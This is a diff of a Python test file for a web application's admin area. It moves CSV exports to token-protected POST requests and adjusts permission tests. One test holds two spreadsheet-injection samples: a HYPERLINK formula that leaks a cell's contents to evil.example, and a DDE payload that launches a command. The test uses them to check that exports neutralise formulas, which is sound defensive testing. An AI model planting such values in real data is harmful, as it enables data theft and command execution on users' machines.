@@ -19,7 +19,7 @@ from core.admin.base import FORMULA_PREFIXES, csv_safe
 from core.audit.models import AuditEntry
 from core.settings import Setting, get_setting
 from core.studies import Site, Study
-from core.testing import csrf_token
+from core.testing import csrf_token, post_with_token
 from core.users.models import Permission, Role, RolePermission, User, UserRole
 
 NEW_PASSWORD = "Purple-Giraffe-Orbit-Lantern-42"
@@ -740,7 +740,9 @@ def test_audit_trail_pages_with_keyset(client, admin, db, system_actor):
 @pytest.mark.req("P11-07", "E6-16")
 def test_audit_trail_csv_export(client, db, trail):
     bob = trail
-    response = client.get(f"/admin/core_audit/?entity_type=core_user&entity_id={bob.id}&format=csv")
+    assert client.get("/admin/core_audit/?format=csv").status_code == 400  # exports are POSTs
+    response = post_with_token(client, "/admin/core_audit/export.csv",
+                               query={"entity_type": "core_user", "entity_id": bob.id})
     assert response.status_code == 200
     assert response.mimetype == "text/csv"
     assert "attachment" in response.headers["Content-Disposition"]
@@ -755,7 +757,8 @@ def test_audit_trail_csv_export(client, db, trail):
     assert (renamed["old_value"], renamed["new_value"], renamed["reason"]) == (
         "Bob Bilder", "Bob Builder", "Typo")
     assert renamed["actor_name"] == "Alice Tester (alice)"
-    assert client.get("/admin/core_audit/?format=csv&nope=1").status_code == 400
+    assert post_with_token(client, "/admin/core_audit/export.csv",
+                           query={"nope": 1}).status_code == 400
 
 
 @pytest.mark.req("SEC-06")
@@ -763,13 +766,14 @@ def test_csv_exports_neutralise_formulas(client, admin, db):
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
     post(client, "/admin/core_studies/new/", {"code": "CSV-1", "title": formula, "active": "y",
                                               "reason": "+cmd|' /C calc'!A0"})
-    exported = client.get("/admin/core_studies/export/csv/")
+    exported = post_with_token(client, "/admin/core_studies/export.csv")
     assert exported.status_code == 200
     rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
     titles = [cell for row in rows for cell in row if "HYPERLINK" in cell]
     assert titles == ["'" + formula]
 
-    audit = client.get("/admin/core_audit/?entity_type=core_study&format=csv")
+    audit = post_with_token(client, "/admin/core_audit/export.csv",
+                            query={"entity_type": "core_study"})
     rows = list(csv.DictReader(io.StringIO(audit.get_data(as_text=True))))
     title = next(r for r in rows if r["field"] == "title")
     assert title["new_value"] == "'" + formula
@@ -795,9 +799,10 @@ def test_inspector_can_view_but_not_change(app, db, make_user, login, study):
     login(client, "ivan")
     for url in ("/admin/", "/admin/core_users/", f"/admin/core_users/details/?id={bob.id}",
                 "/admin/core_assignments/", "/admin/core_roles/", "/admin/core_studies/",
-                "/admin/core_sites/", "/admin/core_audit/", "/admin/core_audit/?format=csv",
-                "/admin/core_users/export/csv/"):
+                "/admin/core_sites/", "/admin/core_audit/"):
         assert client.get(url).status_code == 200, url
+    for url in ("/admin/core_audit/export.csv", "/admin/core_users/export.csv"):
+        assert post_with_token(client, url).status_code == 200, url
     body = client.get(f"/admin/core_users/details/?id={bob.id}").get_data(as_text=True)
     assert 'id="deactivate"' not in body and "Grant a role" not in body
     assert f'id="revoke-{grant.id}"' not in client.get("/admin/core_assignments/").get_data(
@@ -843,9 +848,9 @@ def test_trainee_is_refused_every_admin_area_but_the_dashboard_and_studies(app, 
     assert client.get("/admin/").status_code == 200
     assert client.get("/admin/core_studies/").status_code == 200
     for url in ("/admin/core_users/", "/admin/core_assignments/", "/admin/core_roles/",
-                "/admin/core_audit/", "/admin/core_plugins/", "/admin/documents_settings/",
-                "/admin/core_users/export/csv/"):
+                "/admin/core_audit/", "/admin/core_plugins/", "/admin/documents_settings/"):
         assert client.get(url).status_code == 403, url
+    assert post_with_token(client, "/admin/core_users/export.csv").status_code == 403
 
 
 @pytest.mark.req("P11-03", "P11-18")
